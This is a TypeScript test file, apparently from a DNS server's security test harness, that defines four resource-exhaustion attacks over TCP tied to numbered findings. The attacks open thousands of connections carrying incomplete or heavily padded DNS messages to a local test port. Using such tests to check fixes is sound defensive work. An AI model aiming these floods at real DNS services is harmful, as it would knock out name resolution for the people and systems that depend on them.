/** Attacks over TCP to the DNS port. */
import { frame } from '../hostile/streams.ts'
import type { Attack } from './arena.ts'
import { question } from './messages.ts'
import { service, slices } from './objects.ts'
import { closeAll, repeat, seconds, sendOnConnections } from './traffic.ts'

/** The beginning of a message that announces 65,535 octets. */
const incomplete = Buffer.concat([Buffer.of(0xff, 0xff), question('x.good.test', 'A'), Buffer.alloc(65_000)])

const attackers = (count: number) => Array.from({ length: count }, (_, i) => `127.0.1.${1 + i}`)

export const tcpAttacks: readonly Attack[] = [
  {
    finding: 5,
    title: '4,800 connections of one client with incomplete messages of 65,000 octets',
    async run({ ports }) {
      const sockets = await sendOnConnections(ports.dns, { connections: 4_800 }, incomplete)
      await seconds(3)
      await closeAll(sockets)
    },
  },
  {
    finding: 6,
    title: '120 connections with 64 queries of 64,000 octets for an upstream that is silent over TCP',
    async run({ ports }) {
      const queries = Buffer.concat(
        Array.from({ length: 64 }, (_, id) =>
          frame(question(`q${id}.silent.stream.test`, 'A', { id, padding: 63_900 })),
        ),
      )
      const sockets = await sendOnConnections(ports.dns, { connections: 120 }, queries)
      await seconds(4)
      await closeAll(sockets)
    },
  },
  {
    finding: 11,
    title: '1,000 connections with 50 questions each for a Service of 4,000 endpoints, no answer read',
    objects: () => [service('shop', 'big'), ...slices('shop', 'big', 4_000)],
    async run({ ports }) {
      const questions = Buffer.concat(
        Array.from({ length: 50 }, (_, id) => frame(question('big.shop.svc.cluster.local', 'A', { id }))),
      )
      const sockets = await sendOnConnections(ports.dns, { connections: 1_000 }, questions)
      await seconds(4)
      await closeAll(sockets)
    },
  },
  {
    finding: 12,
    title: '16,000 connections of 8 clients, each kept busy with a question every 2 s',
    async run({ ports }) {
      const query = frame(question('web.shop.svc.cluster.local', 'A', { id: 7 }))
      const sockets = await sendOnConnections(ports.dns, { connections: 16_000, from: attackers(8) }, query)
      await repeat(0.5, 6, () => {
        for (const socket of sockets) if (!socket.destroyed) socket.write(query)
      })
      await closeAll(sockets)
    },
  },
]
